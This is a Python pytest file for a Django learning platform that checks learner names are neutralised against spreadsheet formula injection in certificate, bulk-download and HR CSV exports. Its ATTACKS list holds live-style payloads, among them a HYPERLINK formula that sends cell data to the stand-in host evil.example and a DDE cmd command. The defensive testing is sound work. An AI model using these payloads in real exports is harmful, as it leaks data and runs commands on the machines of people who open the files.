"""Names never run as formulas in any spreadsheet the project emits (issue 17, W1, W2, W11).

A learner names themself as an attacker would; HR, the administrator and the bulk download
then open the files. Each CSV is read as Excel with Swedish settings would: split at ";" too.
"""

import csv
import io
import zipfile

import pytest
from django.test import Client

from certificates.models import Certificate
from lms.accounts.models import LearnerProfile
from lms.hr.models import ExportLog
from lms.spreadsheets import neutralised
from tests.factories.hr import complete, make_hr, make_staff

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "Eve;=cmd|' /C calc'!A0;x",
    "Eve, +SUM(1,2)",
    "Eve\t@SUM(1)",
    "-2+3 Mallory",
]


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def as_excel_sees_it(text):
    """Every cell a spreadsheet could make of the file: split at "," or (Swedish) at ";"."""
    return cells(text, ",") + cells(text, ";")


def assert_no_live_formula(text):
    for cell in as_excel_sees_it(text.lstrip("\ufeff")):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("name", ATTACKS)
def test_the_writer_neutralises_formulas_and_separated_formulas(name):
    for separator in (",", ";", "\t"):
        for part in neutralised(name).split(separator):
            assert not part.lstrip(' "').startswith(("=", "+", "-", "@")), part


@pytest.mark.parametrize("name", ["Åsa Öberg-Ängström", "O'Brien, Siobhán", "Jean-Luc Picard"])
def test_ordinary_names_are_left_alone(name):
    assert neutralised(name) == name


@pytest.fixture
def admin(superuser):
    browser = Client()
    browser.force_login(superuser)
    return browser


@pytest.fixture
def certified(make_user, area, django_capture_on_commit_callbacks):
    """Each attacker completes a one-lesson course and gets its certificate."""
    from lms.hr.models import Organisation
    from tests.conftest import publish
    from tests.factories.courses import CoursePageFactory, LessonPageFactory

    course = publish(CoursePageFactory(parent=area, slug="short", title="Short course"))
    publish(LessonPageFactory(parent=course, slug="only"))
    organisation = Organisation.objects.create(name="Sahlgrenska University Hospital")
    people = []
    for number, name in enumerate(ATTACKS):
        person = make_staff(make_user, f"eve{number}", name, organisation)
        with django_capture_on_commit_callbacks(execute=True):
            complete(person, course)
        people.append(person)
    assert Certificate.objects.filter(kind="course").count() == len(ATTACKS)
    return {"organisation": organisation, "people": people, "course": course}


def test_the_certificate_list_export_is_neutralised_and_audited(admin, certified):
    response = admin.get("/admin/certificates/issued/?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "Eve" in text and "evil.example" in text
    assert_no_live_formula(text)
    assert ExportLog.objects.filter(report="certificates", format="csv").count() == 1


def test_the_bulk_zip_manifest_is_neutralised(admin, certified):
    response = admin.post("/admin/certificates/issued/download/", {"query": ""})
    data = b"".join(response.streaming_content) if response.streaming else response.content
    manifest = zipfile.ZipFile(io.BytesIO(data)).read("manifest.csv").decode()
    assert manifest.count("Eve") >= 3
    assert_no_live_formula(manifest)


def test_the_site_history_export_is_neutralised_and_audited(admin, certified):
    for person in certified["people"]:
        profile = LearnerProfile.objects.get(user=person)
        admin.post(
            f"/admin/hr/people/edit/{profile.pk}/",
            {"organisation": certified["organisation"].pk, "department": "", "profession": ""},
        )
    response = admin.get("/admin/reports/site-history/?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "Eve" in text
    assert_no_live_formula(text)
    assert ExportLog.objects.filter(report="site-history", format="csv").count() == 1


@pytest.mark.parametrize("dialect", ["", "&dialect=excel-sv"])
def test_hr_reports_are_neutralised_in_both_csv_dialects(certified, make_user, dialect):
    hr = make_hr(make_user, "hr", certified["organisation"])
    browser = Client()
    browser.force_login(hr)
    response = browser.get(f"/admin/reports/hr/completions/?export=csv{dialect}")
    text = b"".join(response.streaming_content).decode()
    assert text.count("Eve") >= 3
    assert_no_live_formula(text)
